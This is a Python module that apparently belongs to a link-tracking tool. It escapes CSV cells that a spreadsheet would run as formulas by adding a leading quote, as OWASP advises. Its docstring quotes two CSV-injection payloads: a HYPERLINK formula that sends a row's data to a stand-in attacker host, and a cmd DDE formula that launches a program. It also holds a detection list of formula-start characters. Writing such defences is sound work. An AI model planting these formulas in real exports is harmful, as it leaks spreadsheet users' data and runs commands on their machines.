"""CSV cells that a spreadsheet opens as text, never as a formula.

Anchors, titles and URLs are anyone's text. A CSV export is mostly opened in a spreadsheet, and
Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a
tab or carriage return before one) as a formula: an anchor ``=HYPERLINK("https://evil.test/?"&A2,
"Open")`` would send the row next to it away, ``=cmd|' /C calc'!A0`` would ask to run a program
("CSV injection", OWASP). Every CSV linkback writes (the CLI's ``--format csv``, ``linkback export``,
the API's export and the dashboard's downloads) puts a ``'`` before such a text cell, as OWASP
advises; a spreadsheet shows the text as it was, with no formula run. A number written as text
(``-3``, ``+12.5%``) is no formula and stays as it is, as does every non-text value. JSON, JSONL
and Parquet carry every value unchanged.
"""

from __future__ import annotations

import re
from typing import Any

#: What a spreadsheet takes for the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: A number written as text: nothing a spreadsheet would run.
_NUMBER = r"[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?%?"
_NUMBER_RE = re.compile(_NUMBER)
#: The same test as :func:`cell`, as a regular expression (RE2 syntax, for Arrow's kernels).
NEEDS_QUOTE = r"^[=+\-@\t\r]"
NUMBER = f"^{_NUMBER}$"


def cell(value: Any) -> Any:
    """``value`` as a CSV cell: a text a spreadsheet would run as a formula gets a ``'`` before
    it; anything else is returned as it is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER_RE.fullmatch(value):
        return "'" + value
    return value


def row(values: Any) -> list[Any]:
    """:func:`cell` of each value of a row."""
    return [cell(v) for v in values]
